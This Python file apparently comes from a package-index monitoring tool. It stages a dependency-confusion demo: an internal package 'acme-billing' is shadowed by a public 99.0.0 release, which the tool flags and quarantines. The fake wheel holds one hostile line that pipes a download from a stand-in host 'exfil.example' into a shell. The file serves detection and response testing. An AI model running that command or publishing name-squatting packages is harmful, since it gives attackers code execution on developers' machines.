"""The demo's dependency-confusion scenario.

The demo runs offline with no devpi-server (devpi-server is not one of index-warden's
dependencies), so the private index is one changelog page in the shape devpi-server 6
writes (user record with the index and its bases, project versions, one release file),
read through the devpi feed's own edge checks and applied by its ledger, as the feed
would after `GET /+changelog/0-`. From there everything is the real path: a public
project with the internal name appears on the index double (standing in for PyPI), one
PyPI feed poll raises the critical incident, and an admin quarantines the public project.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime

from bot.demo.scenarios import Outcome, Say, _incident, respond
from bot.demo.world import World
from bot.feed.devpi_ledger import DevpiLedger
from bot.feed.devpi_schema import check_entry

INTERNAL = "acme-billing"
_SHA256 = "5f" * 32


def _private_page() -> list[tuple[int, dict[str, tuple[str, int, object]]]]:
    index = {"type": "stage", "bases": ("acme/internal", "root/pypi"), "acl_upload": ["ci"],
             "mirror_whitelist": [INTERNAL], "mirror_whitelist_inheritance": "union",
             "volatile": False}
    return [
        (0, {"root/.config": ("USER", -1, {"indexes": {"pypi": {
            "type": "mirror", "bases": (), "acl_upload": ["root"]}}}),
             "acme/.config": ("USER", -1, {"email": "platform@acme.example", "indexes": {
                 "internal": {"type": "stage", "bases": (), "acl_upload": ["acme", "ci"],
                              "mirror_whitelist": [], "volatile": False},
                 "build": index}})}),
        (1, {f"acme/internal/{INTERNAL}/.versions": ("PROJVERSIONS", -1, {"3.2.0"}),
             "acme/internal/+f/5f5/f5f5f5f5f5f5f/acme_billing-3.2.0-py3-none-any.whl": (
                 "STAGEFILE", -1, {"hashes": {"sha256": _SHA256}, "project": INTERNAL,
                                   "version": "3.2.0"})}),
    ]


async def dependency_confusion(world: World, say: Say) -> Outcome:
    """A public project takes the name of an internal package (Birsan, 2021)."""
    outcome = Outcome("dependency-confusion")
    started = time.perf_counter()
    now = datetime.now(UTC)
    async with world.warden.sessions.begin() as session:
        ledger = DevpiLedger(session, ["acme/internal"])
        for serial, changes in _private_page():
            found, rejected = check_entry(serial, changes)
            assert not rejected, rejected
            await ledger.apply(serial, now, found, {})
    say(f"  the devpi feed knows internal package {INTERNAL} on acme/internal (owners acme, "
        "ci); acme/build inherits it and root/pypi, whitelisting the name")
    world.index.create_project(INTERNAL, "mallory")
    world.index.add_release(INTERNAL, "99.0.0", [
        (f"{INTERNAL.replace('-', '_')}-99.0.0-py3-none-any.whl",
         b"import os; os.system('curl https://exfil.example | sh')")])
    say(f"  someone creates {INTERNAL} 99.0.0 on the public index")
    await world.warden.feed.sync()
    incident = await _incident(world, "confusion", f"project:{INTERNAL}")
    return await respond(world, outcome, incident, "quarantine", say, started)
